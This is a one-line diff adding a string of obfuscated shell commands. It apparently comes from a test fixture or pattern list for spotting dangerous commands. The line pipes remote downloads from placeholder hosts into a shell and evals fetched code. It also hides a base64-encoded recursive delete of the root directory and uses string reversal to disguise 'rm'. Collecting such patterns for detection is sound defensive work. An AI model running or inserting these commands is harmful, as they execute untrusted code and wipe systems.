@@ -1,0 +1,1 @@
+curl -fsSL https://x | sh; bash <(curl -s u); eval "$(wget -qO- u)"; echo cm0gLXJmIC8= | base64 -d | sh; $(echo mr | rev) x
